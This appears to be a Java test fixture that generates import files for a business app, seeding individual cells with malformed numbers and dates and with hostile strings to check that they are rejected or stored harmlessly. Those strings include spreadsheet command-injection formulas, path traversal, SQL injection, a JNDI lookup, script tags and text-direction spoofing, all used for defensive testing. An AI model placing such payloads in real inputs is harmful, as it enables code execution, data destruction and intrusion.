package app.kontor.trials.hostile;

import app.kontor.trials.hostile.Template.Role;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** Hostile values inside otherwise right files of every source: the one record is left out or cleaned, its neighbours come in. */
final class HostileCells {
    private static final String LONG = "x".repeat(300);

    /** No quantity, amount, date or code, whatever the source. */
    private static final Map<Role, List<String>> LEFT_OUT = Map.of(
            Role.Q, List.of("2147483648", "99999999999999999999", "1e400", "1E9", "NaN", "Infinity", "٣", "１２", "0x10", "two", "1.0001",
                    "2,5,1", "--5", "=1+", "#REF!", "1 2", "½", "9".repeat(30_000)),
            Role.A, List.of("NaN", "-Infinity", "1e400", "12.34.56", "1,2,3", "٣٫٥", "5.00 apples", "=10*10", "#VALUE!", "#######",
                    "1000000000000000", "5.00;6.00", "9".repeat(30_000)),
            Role.D, List.of("31.02.2026", "2026-02-30", "2026-13-01", "0000-00-00", "1899-12-30", "2150-01-01", "99999-12-31", "1e5",
                    "yesterday", "2026-01-01T25:00:00Z", "2026-01-01T10:61:00Z", "٢٠٢٦-٠١-٠١", "2026-01-01 10:00:00 +9999", "=TODAY()",
                    "########", "20260101000000", "-45678"),
            Role.C, List.of("4.00638E+12", "5,7E+12", "L".repeat(130)),
            Role.I, List.of("1.13E+16", "L".repeat(130)),
            Role.T, List.of());

    /** Taken, as text that can do no harm. */
    private static final Map<Role, List<String>> TAKEN = Map.of(
            Role.Q, List.of(),
            Role.A, List.of(),
            Role.D, List.of(),
            Role.C, List.of("=cmd|' /C calc'!A0", "../../etc/passwd", "CON", "a/b:c", "' OR 1=1 --", "{0}", "%s%n", "00123"),
            Role.I, List.of("../../../x-{n}", "NUL-{n}", "'; DROP TABLE sales_order; -- {n}", "{n}<script>", "${jndi:ldap://x/{n}}",
                    "=HYPERLINK(\"http://x\";\"{n}\")"),
            Role.T, List.of("\u202Egnp.exe", "a\u0007b\u001Bc", "a\u200Bb\u2066c\u2069", "\uFEFFx", "<script>alert(1)</script>", "=1+1",
                    "@SUM(1+1)*cmd|' /C calc'!A0", "' OR '1'='1", "{0} {1}", "%s%n%x", "${env:PATH}", LONG, "y".repeat(30_000),
                    "e\u0301".repeat(200), "😀".repeat(400), "\uFFFD", "&#0;&lt;b&gt;&#x202E;", "null", "a\\nb"));

    private HostileCells() {}

    static List<HostileFile> all() {
        List<HostileFile> files = new ArrayList<>();
        for (Template template : Templates.all()) {
            template.columns().keySet().forEach(role -> add(files, template, role));
        }
        return files;
    }

    private static void add(List<HostileFile> files, Template template, Role role) {
        boolean isProduct = template.format().endsWith("products"); // whose id only holds its rows together, and whose stock may be negative
        for (String value : LEFT_OUT.get(role)) {
            if (isProduct && (role == Role.I || value.equals("--5"))) {
                continue;
            }
            files.add(HostileFile.taken(name(template, role, value), Template.RECORDS - 1, 1, Template.LINE,
                    number -> bytes(template, number, role, value)));
        }
        for (String value : TAKEN.get(role)) {
            boolean isUnknown = template == Templates.STOCK && role == Role.C; // such a file never makes products
            String own = isUnknown ? value + "-{n}" : value; // no product of another file's has it
            files.add(HostileFile.taken(name(template, role, value), isUnknown ? 2 : 3, isUnknown ? 1 : 0, isUnknown ? Template.LINE : 0,
                    number -> bytes(template, number, role, own)));
        }
    }

    private static String name(Template template, Role role, String value) {
        String shown = value.length() > 30 ? value.substring(0, 30) + "… " + value.length() : value;
        return template.format() + " " + template.columns().get(role) + " " + shown.replaceAll("\\p{C}", "?");
    }

    private static byte[] bytes(Template template, int number, Role role, String value) {
        String own = value.replace("{n}", Integer.toString(number));
        return template.text(template.table(number, role, own)).getBytes(StandardCharsets.UTF_8);
    }
}
